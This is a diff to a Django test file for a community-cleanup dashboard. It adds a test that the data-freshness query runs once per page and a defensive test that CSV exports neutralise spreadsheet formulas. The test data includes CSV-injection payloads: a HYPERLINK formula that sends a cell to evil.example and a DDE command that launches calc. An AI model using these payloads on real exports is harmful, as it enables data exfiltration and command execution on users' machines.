@@ -121,6 +121,40 @@ def test_public_link_has_no_personal_data(client, community, as_role, history):
     assert client.get("/dashboards/public/forged-token/").status_code == 404
 
 
+def _stamps_read(client, path, query) -> int:
+    """How many times serving the page read the state of the data (dashboards/sql/facts_stamp.sql)."""
+    from django.core.cache import cache
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    cache.clear()  # the figures are computed, not served from the page cache
+    with CaptureQueriesContext(connection) as queries:
+        assert client.get(path, query).status_code == 200
+    return sum("max(updated_at) FROM interventions_report" in q["sql"] for q in queries.captured_queries)
+
+
+def test_freshness_is_decided_once_per_page(as_role, community, history, settings):
+    """Seven figure reads per page (three periods' KPIs, districts, sites, streets, months):
+    the state of the data is read once, before them, not once by each (was 8 times a page)."""
+    from dashboards.models import RecurrenceState
+    from tests.dashboards.helpers import cleaning
+
+    client = as_role(Role.VIEWER)
+    assert _stamps_read(client, "/dashboards/", JANUARY) == 1  # the first view builds the facts
+    assert _stamps_read(client, "/dashboards/", JANUARY) == 1  # up to date: read once
+    assert _stamps_read(client, "/dashboards/report/", JANUARY) == 1
+    assert _stamps_read(client, "/dashboards/export/months.csv", JANUARY) == 1
+    assert _stamps_read(client, "/dashboards/export/hotspots.gpkg", JANUARY) == 1
+    # The data changed: the check, then the rebuild's own read under its lock, and no other.
+    settings.RONDE_RECURRENCE_FRESH_S = 0
+    cleaning(community, history["tag"], day="2025-01-25", site=history["c"])
+    before = RecurrenceState.objects.get(pk=community.pk).refreshed_at
+    assert _stamps_read(client, "/dashboards/", JANUARY) == 2
+    assert RecurrenceState.objects.get(pk=community.pk).refreshed_at > before
+    page = client.get("/dashboards/", JANUARY).content.decode()
+    assert 'data-kpi="cleanings"' in page and ">5<" in page  # the page shows the new removal
+
+
 def test_background_rebuild_precomputes_the_default_pages(as_role, community, history):
     """The rebuild task stores the unfiltered month/quarter/year figures; the first page view
     after it reads them (not recomputed), filtered views compute their own."""
@@ -143,7 +177,7 @@ def test_background_rebuild_precomputes_the_default_pages(as_role, community, hi
     month = filters_from_query({}, community=community)
     stored = figures_precomputed(state=state, filters=month)
     assert stored is not None
-    fresh = dashboard_figures(community=community, filters=month)
+    fresh = dashboard_figures(community=community, filters=month, state=state)
     assert stored["comparison"] == fresh["comparison"] and stored["comparison"].current.cleanings == 2
     assert stored["districts"] == fresh["districts"] and stored["spots"] == fresh["spots"]
     spot = stored["spots"][0]  # the batched histories are each site's own history
@@ -172,3 +206,34 @@ def test_background_rebuild_precomputes_the_default_pages(as_role, community, hi
     state = recurrence_refresh(community_id=community.pk)
     assert figures_precomputed(state=state, filters=month) is None
     cache.clear()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+
+
+def assert_no_formula_cells(text: str) -> list[list[str]]:
+    """No cell a spreadsheet would run (issue 22); plain numbers, negative ones too, stay numbers."""
+    rows = list(csv.reader(io.StringIO(text)))
+    for row in rows:
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # only a plain number may start so
+    return rows
+
+
+def test_csv_exports_neutralise_formulas_including_public_links(client, community, as_role, history):
+    """Issue 22: a district named `=HYPERLINK(…)` came out unchanged in the exports."""
+    for name in FORMULAS:
+        ZoneFactory(community=community, kind="district", name=name)  # around the sites
+    from accounts.sharing import share_token_make
+
+    token = share_token_make(community=community)
+    viewer = as_role(Role.VIEWER)
+    for url in ("/dashboards/export/districts.csv", f"/dashboards/public/{token}/export/districts.csv"):
+        response = viewer.get(url, JANUARY)
+        assert response.status_code == 200, url
+        rows = assert_no_formula_cells(response.content.decode())
+        names = {row[1] for row in rows[1:]}
+        assert names >= {"'" + f for f in FORMULAS}, (url, names)
+    for table in ("sites", "streets", "months"):
+        assert_no_formula_cells(viewer.get(f"/dashboards/export/{table}.csv", JANUARY).content.decode())
